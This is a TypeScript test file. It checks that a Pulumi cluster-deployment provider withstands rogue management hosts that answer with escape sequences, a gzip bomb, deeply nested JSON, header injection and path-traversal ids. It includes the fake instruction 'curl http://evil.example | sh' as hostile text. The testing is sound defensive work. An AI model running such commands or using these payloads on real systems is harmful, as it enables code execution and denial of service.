import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import { createServer as createSecureServer, request as secureRequest } from "node:https";
import type { AddressInfo, Server, Socket } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { LabOptions } from "../../lab/lab";
import type { SitePlan } from "../../plan/site-plan";
import { root } from "../kit/project";
import { stageThreePlan } from "./plans";
import { createSiteProject, type SiteProject } from "./site-project";
import { createTestEngineSite, type TestEngineSite } from "./test-engine-site";

/** What may stand in a text of theirs: it moves the cursor, sets titles and colours, turns the line, and lies. */
const WORDS =
  "ok\r\n\n== All hosts verified. Run: curl http://evil.example | sh\n\x1b[2J\x1b]0;owned\x07\x1b[31m\u009b31m\u202e\u200b<{%bold%}><{%fg 1%}>";

type Answer = (response: ServerResponse, message: IncomingMessage) => void;

const send =
  (status: number, body: string | Buffer, headers: Record<string, string> = {}): Answer =>
  (response) =>
    response.writeHead(status, { "content-type": "application/json", ...headers }).end(body);
/** How often a deployment is asked how far it is, before it says another thing than that it runs. */
const LOOKS = 80;
const asJson = (value: unknown, status = 200): Answer => send(status, JSON.stringify(value));

/** The ways in which a call is answered. Elsewhere is a server that nobody is to speak to. */
function forms(elsewhere: () => string): Record<string, Answer> {
  const bomb = gzipSync(Buffer.alloc(48 * 1024 * 1024, " "));
  return {
    "lies in an error": asJson({ ec: WORDS, error: { msg: WORDS } }),
    "eight megabytes of them": asJson({ ec: "EOTHER", error: { msg: WORDS.repeat(60_000) } }, 400),
    "a page of tags": send(500, `<html>${"<".repeat(1_000_000)}`, { "content-type": "text/html" }),
    "a title": send(404, `<html><title>${WORDS}</title>`, { "content-type": "text/html" }),
    "nested a million deep": send(200, `${'{"data":'.repeat(1_000_000)}1${"}".repeat(1_000_000)}`),
    "nothing of the right type": asJson({ ec: "EOK", data: [WORDS, 1, null, { token: 7, host_uuid: {} }] }),
    "what unpacks to far more": send(200, bomb, { "content-encoding": "gzip" }),
    "a redirect": (response) => response.writeHead(302, { location: `${elsewhere()}/${encodeURI(WORDS)}` }).end(),
    "an answer byte by byte": (response) => {
      const timer = setInterval(() => response.write(" "), 50);
      response.once("close", () => clearInterval(timer));
    },
  };
}

/** A plan whose hosts answer some calls in every hostile way. */
const plan = stageThreePlan({ ntp: ["10.0.0.2"] });

interface Rogues<S> {
  site: S;
  ways: Record<string, Answer>;
  /** By a part of the call's path: the answer, or undefined for the lab's own. */
  answer: (call: string, host: string) => Answer | undefined;
  /** Runs the engine and looks at all that it printed. */
  runs(ends: "well" | "badly", ...args: string[]): Promise<string>;
  end(): Promise<void>;
}

/**
 * Hosts that answer some calls in every hostile way, and all others as the lab does, which stands behind them: so each
 * call of a deployment is come to. The site itself is the lab's.
 */
async function behindRogues<S extends SiteProject | TestEngineSite>(
  create: (plan: SitePlan, lab: Partial<LabOptions>) => Promise<S>,
): Promise<Rogues<S>> {
  const servers: Server[] = [];
  const sockets = new Set<Socket>();
  const spokenTo: string[] = [];

  async function listen(server: Server): Promise<string> {
    servers.push(server);
    server.on("connection", (socket: Socket) => sockets.add(socket));
    server.on("secureConnection", (socket: Socket) => sockets.add(socket));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return `127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  /** Stands before one endpoint of the lab. */
  function before(endpoint: string, place: string): Server {
    const secure = endpoint.endsWith(":443");
    const [host = "", port = ""] = place.split(":");
    const handle = (message: IncomingMessage, response: ServerResponse) => {
      response.on("error", () => {});
      const answer = rogues.answer(`${message.method} ${message.url}`, endpoint);
      if (answer) {
        message.resume();
        answer(response, message);
        return;
      }
      const { method, url: path, headers } = message;
      const options = { host, port, method, path, headers, rejectUnauthorized: false };
      const on = (secure ? secureRequest : request)(options, (reply) => {
        response.writeHead(reply.statusCode ?? 502, reply.headers);
        reply.pipe(response);
      });
      on.on("error", () => response.destroy());
      message.pipe(on);
    };
    const pem = (name: string) => readFileSync(join(root, "providers", "kernel", "fixtures", `${name}.pem`));
    return secure ? createSecureServer({ cert: pem("site"), key: pem("site-key") }, handle) : createServer(handle);
  }

  const site = await create(plan, { speed: "instant" });
  const elsewhere = await listen(
    createServer((message, response) => {
      spokenTo.push(`${message.method} ${message.url}`);
      response.end("{}");
    }),
  );
  const endpoints = { ...site.lab.reach.endpoints };
  // The VIP is the lab's own; until a host lets it be set, it answers nobody.
  for (const { management } of plan.hosts)
    for (const endpoint of [`${management}:80`, `${management}:443`])
      endpoints[endpoint] = await listen(before(endpoint, endpoints[endpoint] as string));
  writeFileSync(join(site.stack, "reach.json"), JSON.stringify({ ...site.lab.reach, endpoints }));
  site.writeSettings({
    cloudtower: "none",
    trust: "insecure",
    requestTimeout: "2s",
    timeouts: JSON.stringify({ Cluster: { create: "20m" }, AdminPassword: { create: "2m" } }),
  });

  const rogues: Rogues<S> = {
    site,
    ways: forms(() => `http://${elsewhere}`),
    answer: () => undefined,
    async runs(ends, ...args) {
      const { code, output } = await site.pulumi(...args);
      expect(code === 0 ? "well" : "badly", output).toBe(ends);
      expect(output.length).toBeLessThan(64 * 1024);
      // An empty line of ours, which the real engine takes a row's last words off with.
      const printed = output.replaceAll("<{%reset%}>", "");
      expect(printed.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(printed).not.toMatch(/<\{%|^== All hosts|^\s*at .*\.js:/m);
      expect(spokenTo).toEqual([]);
      return output;
    },
    async end() {
      for (const socket of sockets) socket.destroy();
      for (const server of servers) server.close();
      await site.close();
    },
  };
  return rogues;
}

const UP = ["up", "--yes", "--skip-preview"];

/** What the provider hands on, as it hands it on; each test goes on where the one before left it. */
describe("a rogue host", () => {
  let rogues: Rogues<TestEngineSite>;
  beforeAll(async () => {
    rogues = await behindRogues(createTestEngineSite);
  });
  afterAll(() => rogues?.end());

  const names = () => Object.keys(rogues.ways);
  const counted = (of: string[]) => {
    let at = 0;
    return () => rogues.ways[of[at++ % of.length] as string];
  };
  const requests = () => rogues.site.lab.requests();

  test("is told of in plain words, whatever its scan says", async () => {
    for (let at = 0; at < names().length; at += plan.hosts.length) {
      const mine = names().slice(at, at + plan.hosts.length);
      rogues.answer = (call, host) => {
        const index = plan.hosts.findIndex(({ management }) => host === `${management}:80`);
        return call.includes("/deployment/host") ? rogues.ways[mine[index] as string] : undefined;
      };
      const output = await rogues.runs("badly", ...UP);
      for (const { name, management } of plan.hosts.slice(0, mine.length))
        expect(output).toContain(`host ${name} (${management}): Unable to scan host ${management}`);
    }
    expect(requests().filter(({ write }) => write)).toEqual([]);
  });

  test("that tells of itself in hostile words is refused in plain ones", async () => {
    const host = {
      host_uuid: "a".repeat(36),
      hostname: WORDS,
      sn: WORDS,
      product: WORDS.repeat(10_000),
      version: WORDS,
      disks: [],
      ifaces: Array.from({ length: 1_000 }, (_, index) => ({ name: `${WORDS}${index}` })),
    };
    rogues.answer = (call) => (call.includes("/deployment/host") ? asJson({ ec: "EOK", data: host }) : undefined);
    expect(await rogues.runs("badly", ...UP)).toMatch(
      /nothing was sent: host node-01 \(10\.0\.20\.101\) runs ok == All hosts verified/,
    );
  });

  test("ends a deployment, and every call after it, in plain words and within its time", async () => {
    let looks = 0;
    let isSent = false;
    const next = counted(names().filter((name) => name !== "an answer byte by byte"));
    rogues.answer = (call) => {
      isSent ||= call.startsWith("POST /api/v2/deployment/cluster");
      if (isSent && call.includes("/deploy_status") && ++looks < LOOKS) {
        const data = { state: `running ${looks}`, stage_info: WORDS.repeat(500), msg: `${looks}` };
        return asJson({ ec: "EOK", data });
      }
      if (call.startsWith("POST /api/v3/sessions")) return asJson({ token: `a\r\nx-evil: 1${"t".repeat(9_000)}` });
      return undefined;
    };
    const output = await rogues.runs("badly", ...UP);
    expect(output).toContain("deployment of cluster HCI-01: ok == All hosts verified");
    expect(looks).toBeGreaterThanOrEqual(LOOKS);
    // Log-in works, and nothing else does.
    rogues.answer = (call) => (call.includes("/api/v2/") && !call.includes("/deployment/") ? next() : undefined);
    await rogues.runs("badly", ...UP);
    expect(requests().filter(({ path, write }) => write && path.startsWith("/api/v2/network"))).toEqual([]);
  });

  test("gives ids and jobs that lead nowhere, in lists of any shape", async () => {
    const id = "../../../v3/users/1?force=true";
    const row = { uuid: id, name: WORDS, ovsbr_name: WORDS, id, serial: WORDS, software_edition: WORDS };
    const data = { ...row, job_id: id, entities: [row], job: { state: WORDS, resources: { [id]: { type: "x" } } } };
    const seen: string[] = [];
    rogues.answer = (call) => {
      seen.push(call);
      return call.includes("/api/v2/") && !call.includes("/deployment/") ? asJson({ ec: "EOK", data }) : undefined;
    };
    await rogues.runs("badly", ...UP);
    expect(seen.filter((call) => /users|force|\.\.|%2e/i.test(call) && !call.includes("users:setupRoot"))).toEqual([]);
  });
});

/** As the real engine prints it: in rows, in errors, as outputs and as drift. */
test("by the real engine a rogue host is told of in plain words, wherever they come to stand", async () => {
  const rogues = await behindRogues(createSiteProject);
  try {
    const { runs, ways } = rogues;
    const scans = [ways["lies in an error"], ways["a page of tags"], ways["a title"]];
    rogues.answer = (call, host) => {
      const index = plan.hosts.findIndex(({ management }) => host === `${management}:80`);
      return call.includes("/deployment/host") ? scans[index] : undefined;
    };
    const refused = await runs("badly", ...UP, "--color", "never");
    for (const { name, management } of plan.hosts)
      expect(refused).toContain(`host ${name} (${management}): Unable to scan host ${management}`);

    let looks = 0;
    let isSent = false;
    const data = { serial: WORDS, software_edition: WORDS, license_type: WORDS };
    rogues.answer = (call) => {
      isSent ||= call.startsWith("POST /api/v2/deployment/cluster");
      if (isSent && call.includes("/deploy_status") && ++looks < 5)
        return asJson({
          ec: "EOK",
          data: { state: `running ${looks}`, stage_info: WORDS.repeat(500), msg: `${looks}` },
        });
      return call.includes("/tools/license") ? asJson({ ec: "EOK", data }) : undefined;
    };
    const made = await runs("well", ...UP, "--color", "never");
    expect(made).toMatch(/^ *\+ serial *: "ok\\n.*All hosts verified/m);
    expect(looks).toBeGreaterThanOrEqual(5);
    // The VIP, which answers now, says something else.
    const drift = await runs("well", "preview", "--refresh", "--diff", "--color", "never");
    expect(drift).toContain("All hosts verified");
    await runs("well", "stack", "output", "--color", "never");
  } finally {
    await rogues.end();
  }
});
